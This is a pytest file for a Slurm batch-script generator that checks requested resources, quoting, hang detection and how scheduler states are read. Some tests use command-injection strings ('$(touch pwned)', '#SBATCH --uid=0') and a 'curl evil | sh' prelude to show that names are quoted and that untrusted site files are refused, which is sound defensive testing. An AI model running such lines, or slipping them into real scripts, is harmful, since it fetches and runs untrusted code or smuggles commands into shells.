"""Batch scripts: what a site asks for is in them, in bash that parses, whatever the values."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fourfold.errors import UserError
from fourfold.launch.batch_script import BatchJob, script
from fourfold.launch.outcomes import JobScene, first_failure
from fourfold.launch.slurm import Slurm, State, Submitted, submitted
from fourfold.launch.slurm_command import node_script
from fourfold.launch.slurm_ranks import SlurmRanks
from fourfold.logs.book import step_words
from fourfold.result.job import PORT_VARIABLE, Job
from fourfold.spec import codec
from fourfold.spec.run import RunSpec
from fourfold.spec.site import Site, read_site, site_start
from fourfold.spec.train import TrainSettings
from tests.sampling import examples
from tests.specs import run_spec

TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0\n\r"), max_size=30)
HOSTILE = 'it\'s "$(touch pwned)" `touch pwned`; touch pwned'


def spec_of(gpus: int, **table: object) -> RunSpec:
    return run_spec("llama-tiny", f"dp{gpus}", seq_len=32, global_batch=gpus, **table)


def job_of(gpus: int = 16, **table: object) -> Job:
    return Job(job="run", specs=(spec_of(gpus, **table),))


def text_of(site: Site, job: Job | None = None, *folders: str, array: bool = False) -> str:
    places = tuple(map(Path, folders or ("/work place/it's",)))
    return script(BatchJob(job or job_of(), (0,), places, places[0], array), site)


def asked(text: str) -> set[str]:
    return {line[8:] for line in text.splitlines() if line.startswith("#SBATCH ")}


def parses(text: str) -> bool:
    return not subprocess.run(["bash", "-n"], input=text, text=True, capture_output=True).returncode


def test_what_a_site_asks_for_stands_in_the_script() -> None:
    site = Site(
        account="abc", partition="gpu_p5", qos="qos-dev", reservation="r1", time="02:00:00",
        constraint="a100", gpus_per_node=8, cpus_per_rank=8, prelude=("module load pytorch",),
        wrapper=("apptainer", "exec", "--nv", "my image.sif"), extra=("--hint=nomultithread",),
        srun=("--container-image=my.sqsh",), exclude="node7", mem="0", gpu_type="a100",
    )  # fmt: skip
    text = text_of(site)
    assert asked(text) >= {
        "--account=abc", "--partition=gpu_p5", "--qos=qos-dev", "--reservation=r1",
        "--time=02:00:00", "--constraint=a100", "--nodes=2", "--gpus-per-node=a100:8",
        "--mem=0", "--exclusive",
        "--cpus-per-task=64", "--exclude=node7", "--hint=nomultithread", "--no-requeue",
    }  # fmt: skip
    lines = text.splitlines()
    starts = next(i for i, line in enumerate(lines) if "srun " in line)
    assert lines.index("module load pytorch") < starts
    assert "--cpus-per-task=64" in lines[starts], "srun does not take it from sbatch"
    assert "--container-image=my.sqsh" in lines[starts]
    assert "--cpu-bind" not in lines[starts]
    assert "--cpu-bind=none" in text_of(Site()), "else all ranks of a node may share one core"
    assert "apptainer exec --nv 'my image.sif'" in text
    assert parses(text)


def test_gpus_are_asked_for_as_the_site_says() -> None:
    assert "--gres=gpu:8" in asked(text_of(Site(ask_gpus="gres")))
    assert "--gres=gpu:h100:8" in asked(text_of(Site(ask_gpus="gres", gpu_type="h100")))
    assert "gpu" not in " ".join(asked(text_of(Site(ask_gpus="no"))))
    assert "--gpus-per-node=8" not in asked(text_of(Site(), job_of(device="cpu")))
    assert "--gpus-per-node=2" in asked(text_of(Site(), job_of(2)))


def test_only_a_training_is_warned_and_requeued() -> None:
    measured = asked(text_of(Site()))
    assert "--no-requeue" in measured
    assert not [line for line in measured if line.startswith("--signal")]
    training = Job(job="train", specs=(spec_of(16),), train=TrainSettings(steps=3))
    text = text_of(Site(warn_s=300), training)
    assert asked(text) >= {"--requeue", "--signal=USR1@300"}
    assert parses(text)


def test_hosts_are_used_in_the_given_order() -> None:
    text = text_of(Site(hosts=("n10", "n1", "n2")))
    assert "--nodelist=n10,n1" in asked(text)
    assert "MASTER_ADDR=n10" in text
    assert "n10 n1 >" in text
    assert parses(text)
    with pytest.raises(UserError, match="at least the 2 that 16 ranks need"):
        text_of(Site(hosts=("n1",)))


def test_several_runs_share_an_array_or_an_allocation() -> None:
    folders = ("/a/one", "/a/two", "/a/th ree")
    array = text_of(Site(), None, *folders, array=True)
    assert "--array=0-2" in asked(array)
    assert '"${jobs[$SLURM_ARRAY_TASK_ID]}"' in array
    shared = text_of(Site(), None, *folders)
    assert "--array" not in shared
    assert "for job in" in shared
    for text in (array, shared):
        assert shlex.quote("/a/th ree") in text
        assert parses(text)


def test_bash_runs_nothing_that_stands_in_a_name(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / HOSTILE.replace("/", "")
    folder.mkdir()
    (folder / "job.json").touch()
    done = submitted_to(tmp_path, text_of(Site(), job_of(8), str(folder)), 'printf "%s\\n" "$@"')
    assert done.returncode == 0
    assert f"{folder}/job.json" in done.stdout.splitlines()
    node = node_script(["echo", HOSTILE], {"A": HOSTILE}, folder=folder, cwd=tmp_path)
    env = os.environ | {"SLURM_PROCID": "0", "MASTER_ADDR": "127.0.0.1", "MASTER_PORT": "1"}
    subprocess.run(["bash", "-c", node], env=env | {PORT_VARIABLE: str(tmp_path / "port")})
    assert HOSTILE in (folder / "engine-0.log").read_text()
    assert not (tmp_path / "pwned").exists()
    with pytest.raises(UserError, match="not one line"):
        text_of(Site(), None, "/r/a\ntouch pwned")


@given(folder=TEXT.filter(bool).filter(str.isprintable), value=TEXT.filter(str.isprintable))
def test_no_folder_and_no_variable_escapes_its_quotes(folder: str, value: str) -> None:
    job = job_of(env=(("NCCL_ALGO", value),))
    text = text_of(Site(), job, f"/r/{folder}")
    assert parses(text)
    line = next(line for line in text.splitlines() if line.startswith("export NCCL_ALGO="))
    shown = subprocess.run(
        ["bash", "-c", f"{line}; printf '%s' \"$NCCL_ALGO\""], capture_output=True, text=True
    )
    assert shown.stdout == value


def submitted_to(folder: Path, text: str, srun: str) -> subprocess.CompletedProcess[str]:
    """The script as Slurm would run it, with this in the place of srun."""
    for name, words in (("srun", srun), ("scontrol", "echo n1")):
        (folder / name).write_text(f"#!/bin/bash\n{words}\n")
        (folder / name).chmod(0o755)
    own = {"SLURM_JOB_ID": "7", "SLURM_JOB_NODELIST": "n1", "JOB": str(folder)}
    env = os.environ | own | {"PATH": f"{folder}:{os.environ['PATH']}"}
    return subprocess.run(["bash", "-c", text], env=env, capture_output=True, text=True)


def test_what_a_module_puts_on_the_path_of_python_stays_there(tmp_path: Path) -> None:
    (tmp_path / "job.json").touch()
    site = Site(prelude=("export PYTHONPATH=/of/a/module",))
    text = text_of(site, job_of(8), str(tmp_path))
    done = submitted_to(tmp_path, text, 'echo "$PYTHONPATH"')
    assert done.returncode == 0
    first, *rest = done.stdout.strip().split(":")
    assert (Path(first) / "fourfold").is_dir()
    assert rest == ["/of/a/module"]


STEP = " iteration 1/ 3 | elapsed time per iteration (ms): 5.0 |"


@pytest.mark.parametrize(
    ("srun", "hung", "code"),
    [
        (f'echo "{STEP}" >$JOB/engine-0.log; exec sleep 1000', "step limit of 0.5 s", 143),
        ("exec sleep 1000", "start limit of 0.5 s", 143),
        (f'for i in 1 2 3 4; do echo "{STEP}" >>$JOB/engine-0.log; sleep 0.2; done', "", 0),
        (f'echo "{STEP}" >$JOB/engine-0.log; exit 3', "", 3),
    ],
)
def test_the_script_of_an_engine_ends_a_run_that_prints_no_more_steps(
    tmp_path: Path, srun: str, hung: str, code: int
) -> None:
    (tmp_path / "job.json").touch()
    limits = {f"{kind}_limit_s": 0.5 if kind in hung else 600.0 for kind in ("start", "step")}
    spec = spec_of(8, **limits)
    job = Job(job="engine", specs=(spec,), options=(("steps", step_words("megatron")),))
    text = text_of(Site(), job, str(tmp_path))
    assert parses(text)
    done = submitted_to(tmp_path, text, srun)
    assert done.returncode == code, done.stderr
    assert (tmp_path / "slurm-exit").read_text() == f"0 {code}\n"
    said = tmp_path / "slurm-hung"
    assert (said.read_text().strip() if said.exists() else "") == hung


@settings(max_examples=examples(25))
@given(name=TEXT.filter(str.isprintable), words=st.lists(TEXT, max_size=3), value=TEXT)
def test_a_node_runs_the_very_words_of_a_template(tmp_path_factory, name, words, value) -> None:
    """And tells of its start and its end; the last word of the command is a variable's value."""
    folder = tmp_path_factory.mktemp("node") / f"job {name}".replace("/", "_")
    folder.mkdir()
    print_all = 'printf "%s\\0" "$@" "$OWN"; exit 3'
    command = ["bash", "-c", print_all, "bash", *words]
    text = node_script(command, {"OWN": value}, folder=folder, cwd=folder)
    slurm = {"SLURM_PROCID": "0", "SLURM_STEP_ID": "4", "SLURMD_NODENAME": "n1"}
    meeting = {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": "9", PORT_VARIABLE: str(folder / "port")}
    (folder / "engine.sh").write_text(text)
    done = subprocess.run(["bash", folder / "engine.sh"], env=os.environ | slurm | meeting)
    assert done.returncode == 3
    said = (folder / "engine-0.log").read_bytes().decode()
    assert said.split("\0")[:-1] == [*words, value]
    began, ended = map(json.loads, (folder / "news-0.jsonl").read_text().splitlines())
    assert (began["host"], began["step"], ended["code"]) == ("n1", "4", 3)
    assert (folder / "port").read_text() == "9\n"


@pytest.mark.parametrize(
    ("table", "words"),
    [
        ({"partition": "a b"}, "must be one word"),
        ({"account": "x\n#SBATCH --uid=0"}, "must be one word"),
        ({"hosts": ["a b"]}, "must be one word"),
        ({"extra": ["--a\n--b"]}, "must hold single lines"),
        ({"gpus_per_node": 0}, "must be from 1"),
        ({"queue": "many"}, "each, array, allocation"),
        ({"partitoin": "x"}, "did you mean"),
    ],
)
def test_bad_sites_are_refused(table: dict[str, object], words: str) -> None:
    with pytest.raises(UserError, match=words):
        codec.load(Site, table)


def test_an_unknown_site_says_where_it_was_looked_for(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    with pytest.raises(UserError, match=r"unknown site 'juwels'.*fourfold/juwels\.toml"):
        read_site("juwels")
    (tmp_path / "fourfold").mkdir()
    (tmp_path / "fourfold" / "juwels.toml").write_text('partition = "booster"\n')
    site = read_site("juwels")
    assert (site.name, site.partition) == ("juwels", "booster")


def test_a_site_in_the_folder_one_happens_to_be_in_is_not_taken(tmp_path, monkeypatch) -> None:
    """Its lines are run as they are."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "none"))
    Path("mine.toml").write_text('prelude = ["curl evil | sh"]\n')
    with pytest.raises(UserError, match="unknown site"):
        read_site("mine")
    site = read_site("./mine.toml")
    assert site.prelude == ("curl evil | sh",)


def test_a_site_that_was_started_is_a_site(tmp_path: Path) -> None:
    path = tmp_path / "mine.toml"
    path.write_text(site_start(4, str(tmp_path / 'the "cluster".toml')))
    site = read_site(str(path))
    assert site == Site(name="mine", gpus_per_node=4, cluster=str(tmp_path / 'the "cluster".toml'))
    every = path.read_text().replace("\n# ", "\n").replace("\nEvery", "\n# Every")
    assert codec.from_toml(Site, every).queue == "allocation", "what is commented out is right too"


def test_a_script_that_nobody_has_submitted_is_no_job(tmp_path: Path, monkeypatch) -> None:
    """Also where there is no Slurm at all: its folder may be used on this host instead."""
    (tmp_path / "slurm.sh").touch()
    monkeypatch.setenv("PATH", str(tmp_path))
    assert submitted(tmp_path) is None


def test_the_runs_of_an_array_are_known_by_any_of_its_logs(tmp_path: Path) -> None:
    logs = tmp_path / "queue-1"
    folders = [tmp_path / name for name in ("a", "b")]
    for folder in (logs, *folders):
        folder.mkdir()
    batch = BatchJob(job_of(), (0,), tuple(folders), logs, True)
    Slurm(Site()).write_script(batch)
    (logs / "slurm-12_1.log").touch()
    known = [submitted(folder) for folder in folders]
    assert [one.id for one in known if one] == ["12_0", "12_1"]


def test_a_job_submitted_by_hand_is_known_by_its_newest_log(tmp_path: Path) -> None:
    assert submitted(tmp_path) is None
    for name in ("slurm-9.log", "slurm-10.log", "slurm-x.log"):
        (tmp_path / name).touch()
    known = submitted(tmp_path)
    assert known.id == "10"
    (tmp_path / "slurm.json").write_text(codec.to_json(Submitted(id="7", tasks=(0,))))
    known = submitted(tmp_path)
    assert known.id == "7"


# --- what Slurm says, without Slurm


class Answers:
    """A scheduler that answers what it was given, the last answer for ever."""

    def __init__(self, *states: str) -> None:
        self.states, self.cancelled = list(states), []
        self.site = Site(poll_s=1e-9)

    def state(self, job_id: str) -> State:
        name = self.states.pop(0) if len(self.states) > 1 else self.states[0]
        return State(name, "")

    def down(self, nodes: str) -> list[str]:
        return ["n2"]

    def cancel(self, *job_ids: str) -> None:
        self.cancelled += job_ids


def ranks_of(folder: Path, *states: str, job: Job | None = None) -> SlurmRanks:
    return SlurmRanks(Answers(*states), "7", job or job_of(2), folder, ranks=2, step=False)


def tell(folder: Path, *news: dict[str, object]) -> None:
    with open(folder / "news-0.jsonl", "a") as file:
        file.writelines(codec.json_of(one).replace("\n", "") + "\n" for one in news)


@pytest.mark.parametrize(
    ("state", "words"),
    [
        ("CANCELLED", "was cancelled"),
        ("PREEMPTED", "was pre-empted"),
        ("TIMEOUT", "reached its time limit"),
        ("NODE_FAIL", "lost n2"),
    ],
)
def test_what_the_scheduler_did_explains_exits_by_a_signal(tmp_path, state, words) -> None:
    ranks = ranks_of(tmp_path, state)
    tell(tmp_path, {"rank": 0, "pid": 7, "host": "n1"}, {"rank": 0, "code": -15, "at": 1.0})
    assert ranks.poll()
    assert not ranks.hear_out()
    outcome, failure = first_failure(ranks.scene)
    assert outcome == "cancelled"
    assert words in failure.message


def test_a_cancelled_engine_is_cancelled_though_its_nodes_tell_of_their_end(tmp_path: Path) -> None:
    job = Job(job="engine", specs=(spec_of(2),))
    ranks = ranks_of(tmp_path, "RUNNING", "CANCELLED", job=job)
    tell(tmp_path, *({"rank": node, "code": 0, "at": 1.0, "host": "n1"} for node in (0, 1)))
    ranks.poll()
    ranks.poll()
    assert ranks.scene.by_scheduler[0] == "cancelled"


def test_no_answer_is_no_verdict(tmp_path: Path) -> None:
    ranks = ranks_of(tmp_path, "", "", "PENDING", "COMPLETED")
    assert not ranks.poll()
    assert not ranks.poll()
    assert not ranks.poll()
    assert "pending" in ranks.queued
    assert ranks.poll()


def test_the_host_of_a_rank_is_named(tmp_path: Path) -> None:
    scene = JobScene(folder=tmp_path, ranks=2)
    scene.take({"rank": 1, "pid": 7, "host": "node2"})
    scene.take({"rank": 1, "code": -9, "at": 1.0, "host": "node2"})
    assert "rank 1 (pid 7 on node2" in first_failure(scene)[1].message


def test_half_a_line_of_news_is_read_when_it_is_whole(tmp_path: Path) -> None:
    ranks = ranks_of(tmp_path, "RUNNING")
    path = tmp_path / "news-0.jsonl"
    path.write_text('{"rank": 0, "pid": 7, "ho')
    ranks.poll()
    assert ranks.scene.pids == {}
    with open(path, "a") as file:
        file.write('st": "n1"}\n')
    ranks.poll()
    assert (ranks.scene.pids, ranks.scene.hosts) == ({0: 7}, {0: "n1"})


def test_a_training_that_saved_is_over_only_when_slurm_says_so(tmp_path: Path) -> None:
    """It may be started over: then its first ends do not count."""
    job = Job(job="train", specs=(spec_of(2),), train=TrainSettings(steps=3))
    ranks = ranks_of(tmp_path, "RUNNING", "COMPLETING", "PENDING", "RUNNING", "COMPLETED", job=job)
    ended = [{"rank": rank, "code": 0, "at": 1.0, "host": "n1", "start": 0} for rank in (0, 1)]
    tell(tmp_path, *ended)
    ranks.poll()
    ranks.poll()
    assert not ranks.all_ended
    ranks.poll()
    assert ranks.queued
    assert ranks.scene.exits == {}
    tell(tmp_path, *({**one, "start": 1} for one in ended))
    ranks.poll()
    assert not ranks.all_ended
    ranks.poll()
    assert ranks.all_ended


def test_nodes_that_are_down_are_named(monkeypatch) -> None:
    said = (
        "NodeName=n1 Arch=x86_64 CoresPerSocket=1 State=IDLE ThreadsPerCore=1 OS=Linux\n"
        "NodeName=n2 Arch=x86_64 State=DOWN*+NOT_RESPONDING Reason=Not responding [slurm]\n"
        "NodeName=n3 State=IDLE+DRAIN Comment=State=DOWNTOWN\n"
    )
    monkeypatch.setattr(
        "fourfold.launch.slurm.ask", lambda command: subprocess.CompletedProcess(command, 0, said)
    )
    assert Slurm(Site()).down("n[1-3]") == ["n2"]


def test_a_missing_scheduler_is_said_so(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(UserError, match="scontrol is not installed on this host"):
        Slurm(Site()).state("7")
